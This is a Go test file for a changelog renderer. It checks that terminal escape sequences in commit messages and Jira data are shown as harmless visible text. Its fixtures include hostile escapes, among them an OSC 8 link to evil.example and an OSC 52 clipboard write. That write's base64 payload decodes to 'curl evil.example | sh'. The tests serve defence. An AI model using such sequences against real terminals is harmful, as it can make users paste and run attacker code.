package changelog_test

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/sustain-cli/sustain/changelog"
	"github.com/sustain-cli/sustain/internal/gittest"
	"github.com/sustain-cli/sustain/release"
)

// Hostile text a commit author or a Jira user can write: a colour, a
// screen clear, a window title, an OSC 8 link, an OSC 52 clipboard write,
// an 8-bit CSI, a carriage return that hides what came before, a bidi
// override.
const (
	escColour    = "\x1b[31mred\x1b[0m"
	escClear     = "\x1b[2J\x1b[H"
	oscTitle     = "\x1b]0;owned\x07"
	osc8Link     = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
	osc52Clip    = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	csi8bit      = "\u009b31m"
	crOverwrite  = "harmless\rEVIL"
	bidiOverride = "\u202eevil\u202c"
)

var hostile = []string{escColour, escClear, oscTitle, osc8Link, osc52Clip, csi8bit, crOverwrite, bidiOverride}

// unsafeRune finds a character a terminal would act on in rendered output;
// newlines, which the formats need, are allowed.
func unsafeRune(s string) (rune, bool) {
	for _, r := range s {
		if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			return r, true
		}
	}
	return 0, false
}

// hostileDocument has every hostile string in a commit subject, a trailer,
// a Jira summary, a support request and an unreleased range's notes.
func hostileDocument(t *testing.T) (*changelog.Document, []string) {
	t.Helper()
	r, err := gittest.Init(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Commit("SRV-1 start", "a=1"); err != nil {
		t.Fatal(err)
	}
	if err := r.Tag("v1.0.1", ""); err != nil {
		t.Fatal(err)
	}
	var subjects []string
	for i, h := range hostile {
		subject := "fix: " + h + " in subject"
		subjects = append(subjects, strings.TrimPrefix(subject, "fix: "))
		msg := subject + "\n\nUpgrade-Note: note " + h + "\nCompat: compat " + h
		if i == 0 {
			msg += "\nRefs: SRV-9"
		}
		if _, err := r.Commit(msg, "f"+string(rune('a'+i))+"=1"); err != nil {
			t.Fatal(err)
		}
	}
	repo, err := release.Open(r.Dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { repo.Close() })
	v := &release.Versioner{Repo: repo, Settings: release.Settings{Scheme: release.SchemeSemverJira, TagFormat: "v{version}",
		ComponentTagFormat: "{component}/v{version}", Location: time.UTC, JiraProject: "SRV"}}
	d := build(t, v, release.RangeOptions{}, "en")
	d.Requests = []changelog.Request{{ID: "SUP-1", Customer: "ACME " + osc8Link, Subject: escClear + "subject", Status: "resolved", Tasks: []string{"SRV-9"}}}
	d.Enrich(map[string]changelog.Issue{"SRV-9": {Key: "SRV-9", Found: true, Summary: "Jira " + osc52Clip + escColour, Type: "Bug"}}, nil)
	return d, subjects
}

// TestControlCharactersDoNotReachTheTerminal: md, text and html show the
// escape sequences of commit messages and Jira summaries as visible text,
// with nothing a terminal would obey (defect 4); json keeps the exact data.
func TestControlCharactersDoNotReachTheTerminal(t *testing.T) {
	d, subjects := hostileDocument(t)
	for _, kind := range []string{changelog.KindNotes, changelog.KindChangelog, changelog.KindCompat} {
		for _, format := range []string{"md", "text", "html"} {
			var buf bytes.Buffer
			if err := changelog.Render(&buf, []*changelog.Document{d}, kind, format); err != nil {
				t.Fatal(err)
			}
			out := buf.String()
			if r, bad := unsafeRune(out); bad {
				t.Errorf("%s %s: %U reaches the output:\n%q", kind, format, r, out)
			}
			if kind == changelog.KindCompat {
				continue
			}
			// Shown, not dropped: the reader sees something was there.
			for _, want := range []string{"^[[31mred^[[0m", "^[]8;;https://evil.example/^[\\click", "^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G", "harmless EVIL"} {
				if !strings.Contains(out, want) {
					t.Errorf("%s %s: %q is not shown", kind, format, want)
				}
			}
		}
	}

	// json: the same data, escaped (C1 and DEL too), decoding to the original.
	var buf bytes.Buffer
	if err := changelog.Render(&buf, []*changelog.Document{d}, changelog.KindNotes, "json"); err != nil {
		t.Fatal(err)
	}
	if r, bad := unsafeRune(buf.String()); bad && !(r >= 0x202a && r <= 0x2069) {
		t.Errorf("json: raw %U in the output", r)
	}
	var back changelog.Document
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, s := range back.Sections {
		for _, e := range s.Entries {
			for _, c := range e.Commits {
				got = append(got, c.Subject)
			}
		}
	}
	for _, want := range subjects {
		found := false
		for _, g := range got {
			found = found || g == want
		}
		if !found {
			t.Errorf("json lost the subject %q; has %q", want, got)
		}
	}
	if back.Sections[4].Entries[0].Title != "Jira "+osc52Clip+escColour {
		t.Errorf("json Jira summary = %q", back.Sections[4].Entries[0].Title)
	}
	// The document itself is not changed by rendering.
	if d.Sections[4].Entries[0].Title != "Jira "+osc52Clip+escColour {
		t.Errorf("rendering changed the document: %q", d.Sections[4].Entries[0].Title)
	}
}

// TestControlCharactersInUserTemplates: --template gets the same cleaned
// data; its own text is left as the user wrote it.
func TestControlCharactersInUserTemplates(t *testing.T) {
	d, _ := hostileDocument(t)
	dir := t.TempDir()
	for name, src := range map[string]string{
		"list.txt":  "\x1b[1m{{range .sections}}{{range .entries}}{{.title}} {{range .commits}}{{.subject}}{{end}}\n{{end}}{{end}}{{range .requests}}{{.customer}}{{end}}",
		"list.html": "<b>{{range .sections}}{{range .entries}}{{.title}}{{end}}{{end}}</b>",
	} {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := changelog.RenderTemplate(&buf, []*changelog.Document{d}, path); err != nil {
			t.Fatal(err)
		}
		out := strings.TrimPrefix(buf.String(), "\x1b[1m") // the template's own escape stays
		if out == buf.String() && strings.HasSuffix(name, ".txt") {
			t.Errorf("%s: the template's own text was changed", name)
		}
		if r, bad := unsafeRune(out); bad {
			t.Errorf("%s: %U reaches the output:\n%q", name, r, out)
		}
		if !strings.Contains(out, "^[[31mred") || !utf8.ValidString(out) {
			t.Errorf("%s: hostile text not shown: %q", name, out)
		}
	}
}

// TestRenderNothing: no documents is an error, not a panic on docs[0].
func TestRenderNothing(t *testing.T) {
	for _, format := range []string{"md", "json"} {
		if err := changelog.Render(&bytes.Buffer{}, nil, changelog.KindNotes, format); err == nil {
			t.Errorf("%s: no error for no documents", format)
		}
	}
	if err := changelog.RenderTemplate(&bytes.Buffer{}, nil, "x.txt"); err == nil {
		t.Error("template: no error for no documents")
	}
}
